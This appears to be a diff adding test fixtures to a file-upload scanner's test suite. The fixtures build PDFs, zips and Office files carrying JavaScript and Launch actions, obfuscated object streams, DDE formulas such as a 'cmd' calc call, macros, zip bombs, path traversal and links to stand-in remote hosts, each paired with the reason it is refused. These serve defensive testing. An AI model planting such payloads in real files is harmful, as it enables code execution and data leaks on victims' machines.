@@ -410,6 +410,66 @@ def calling():
     for at, place in enumerate(("(\\\\\\\\host\\\\x.pdf)", "(//host/x.pdf)", "(\\134\\134host)", "<5C5C 686F>", "<FEFF005C005C0068>", "<< /UF (//host/x) >>")):
         yield f"host{at}.pdf", pdf(extra=f"/OpenAction << /F {place} /S /GoToR /D [0 /Fit] >> "), "GoToR"
     yield "apart.pdf", pdf(extra="/OpenAction << /S /GoToR /F 9 0 R >> /Z (9 0 obj (//host/x) endobj)"), "GoToR"
+    yield from in_object_streams()
+    yield from in_archives()
+    yield from in_formulas()
+
+
+def packed_objects(inside, entries=b"/N 1 /First 4 /Filter /FlateDecode", pack=zlib.compress):
+    """A PDF with an object in a stream (ISO 32000-1, 7.5.7)."""
+    data = pack(b"9 0 " + inside)
+    return pdf().replace(b"trailer", b"8 0 obj\n<< /Length %d %s >>\nstream\r\n%s\nendstream\nendobj\ntrailer" % (len(data), entries, data))
+
+
+def in_object_streams():
+    script, launch = b"<< /S /JavaScript /JS (x) >>", b"<< /S /L#61unch /F (cmd.exe) >>"
+    yield "packed.pdf", packed_objects(script), "JavaScript"
+    yield "packed2.pdf", packed_objects(launch, b"/X (>>stream) /Y << /N 2 >> /Z [/First] %>>\n/#4e 1 /Fi#72st 4 /Filter [/Fl]"), "Launch"
+    yield "damaged.pdf", packed_objects(script + b" " * 9000, pack=lambda data: zlib.compress(data)[:-9]), "JavaScript"
+    yield "host.pdf", packed_objects(b"<< /S /GoToR /F (//host/x) >>"), "GoToR"
+    for at, entries in enumerate((b"/Filter /LZWDecode", b"/Filter [/ASCIIHexDecode /FlateDecode]", b"/Filter 7 0 R",
+                                  b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>", b"/Filter [/FlateDecode /FlateDecode]", b"/F (x)")):
+        yield f"unseen{at}.pdf", packed_objects(b"<< >>", b"/N 1 /First 4 " + entries), "nobody can look"
+
+
+def in_archives():
+    script = pdf(extra="/OpenAction << /S /JavaScript /JS (x) >> ")
+    program = b"\x7fELF" + b"\0" * 200
+    yield "script.zip", archive([("a/b.pdf", script)]), "JavaScript"
+    yield "unnamed.zip", archive([("b", packed_objects(b"<< /S /Launch >>"))]), "Launch"
+    yield "program.in.zip", archive([("a.zip", archive([("a.txt", "x"), ("b", program)]))]), "is a program"
+    yield "deep.zip", archive([("a", archive([("b", archive([("c", archive([("d", "x")]))]))]))]), "deep"
+    yield "macro.in.zip", archive([("a.docx", word("x", parts=[("word/vbaProject.bin", b"x")]))]), "macros"
+    yield "old.in.zip", archive([("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "_VBA_PROJECT".encode("utf-16-le"))]), "macros"
+    yield "dde.in.docx", word("x", parts=[("word/embeddings/a.xlsx", formulas("cmd|'/c calc'!A0"))]), "DDE"
+    yield "field.in.pptx", office("presentationml.presentation.main", [("ppt/embeddings/a.docx", of_runs(field("DDEAUTO x")))]), "DDE"
+    yield "bomb.in.zip", archive([("a.zip", archive([("zero.bin", b"\0" * (60 << 20))]))], zipfile.ZIP_STORED), "unpacks to"
+    yield "up.in.zip", archive([("a.zip", archive([("../x", "x")]))]), "outside of itself"
+    yield "cut.in.zip", archive([("a.zip", archive([("x", "x")])[:-9])]), ""
+    for at, head in enumerate((b"7z\xbc\xaf\x27\x1c", b"Rar!\x1a\x07\x01\0", b"\x1f\x8b\x08\0", b"\xfd7zXZ\0", b"BZh91AY", b"MSCF\0")):
+        yield f"unseen{at}.zip", archive([("a", head + b"x" * 50)]), "nobody can look into"
+
+
+def formulas(*texts, element="f", parts=()):
+    cells = "".join(f'<row><c t="str"><{element}>{text}</{element}><v>1</v></c></row>' for text in texts)
+    return office("spreadsheetml.sheet.main", [("xl/worksheets/sheet1.xml", f"<worksheet><sheetData>{cells}</sheetData></worksheet>"), *parts])
+
+
+def linked(kind, target, mode="External"):
+    return formulas("1", parts=[("xl/externalLinks/_rels/e.rels", f'<Relationships><Relationship Id="r" Type="x/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>')])
+
+
+def in_formulas():
+    for at, text in enumerate(("cmd|'/c calc'!A0", "1+'cmd'|' /c'!_xlbgnm.A1", "IF(1,MSEXCEL|'..\\x'!''," + "&quot;|&quot;)", "rtd(&quot;x&quot;,,1)",
+                               "<![CDATA[c]]>md<!-- -->|x!y")):
+        yield f"dde{at}.xlsx", formulas("1", text), "DDE"
+    yield "defined.xlsx", formulas("cmd|x!y", element="definedName"), "DDE"
+    yield "condition.xlsx", formulas("cmd|x!y", element="formula1"), "DDE"
+    yield "web.xlsx", formulas("_xlfn.WEBSERVICE(&quot;http://x/&quot;&amp;A1)"), "from elsewhere"
+    yield "image.xlsx", formulas("_xlfn.IMAGE(&quot;http://x/&quot;)"), "from elsewhere"
+    for at, target in enumerate(("http://x/a.xlsx", "\\\\host\\a.xlsx", "//host/a.xlsx", "file://host/a.xlsx", "file:///\\host/a", "%5C%5Chost/a", "FILE:////host/a")):
+        yield f"book{at}.xlsx", linked("externalLinkPath", target), "from elsewhere"
+    yield "query.xlsx", formulas("1", parts=[("xl/connections.xml", '<connections><connection><webPr url="http://x/"/></connection></connections>')]), "from elsewhere"
 
 
 def harmless():
@@ -423,6 +483,12 @@ def harmless():
     yield "texts.zip", archive([("a.txt", "MZ is how programs begin"), ("exe", "x"), ("a/", "")])
     yield "other.pdf", pdf(extra="/OpenAction << /S /GoToR /F (annex.pdf) /D [0 /Fit] >> ")
     yield "web.pdf", pdf(extra="/OpenAction << /S /URI /URI (https://x/) >> ")
+    yield "packed.pdf", packed_objects(b"<< /Type /Catalog >> (JavaScript)")
+    yield "nested.zip", archive([("a.zip", archive([("b.docx", word("x")), ("b.xlsx", book([["x"]])), ("b.pdf", pdf()), ("b.txt", "x")]))])
+    yield "formulas.xlsx", formulas('IF(A1="a|b",1,0)', "'a|b'!A1", "HYPERLINK(\"http://x/\",1)", "PARTS(1)")
+    for at, target in enumerate(("a.xlsx", "file:///D:\\a.xlsx", "/xl/a.xlsx", "../a%20b.xlsx")):
+        yield f"beside{at}.xlsx", linked("externalLinkPath", target)
+    yield "fraction.docx", of_runs("<m:f xmlns:m='m'><m:num><m:r><m:t>|x|</m:t></m:r></m:num><m:den><m:r><m:t>2</m:t></m:r></m:den></m:f>")
 
 
 def hostile():
@@ -516,6 +582,30 @@ def test_hostile_files_are_refused_with_their_reason(world):
         assert reply.status == 400, (name, reply)
         count += 1
     print(f"# {count} refused")
+
+
+def readers_of(process):
+    """What its server has started, by name."""
+    found = []
+    for one in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            with open(f"/proc/{one}/stat", encoding="utf-8") as file:
+                name, rest = file.read().split("(", 1)[1].rsplit(")", 1)
+        except OSError:
+            continue
+        if int(rest.split()[1]) == process.pid:
+            found.append(name)
+    return found
+
+
+def test_what_is_packed_is_read_by_a_program_in_a_cage(world):
+    if not os.path.exists(os.path.join(os.path.dirname(ZHIYUN), "zhiyun-pdf")):
+        raise tap.Skip("zhiyun-pdf is not built here")
+    for name, content in (("caged.docx", word("caged")), ("caged.xlsx", book([["caged"]])), ("caged.zip", archive([("a.txt", "caged")]))):
+        restart(world)
+        assert "zhiyun-pdf" not in readers_of(world.server.process)
+        assert put(world["centre_staff"], name, content).status == 201, name
+        assert "zhiyun-pdf" in readers_of(world.server.process), name
 
 
 def test_plain_files_of_every_kind_are_taken(world):
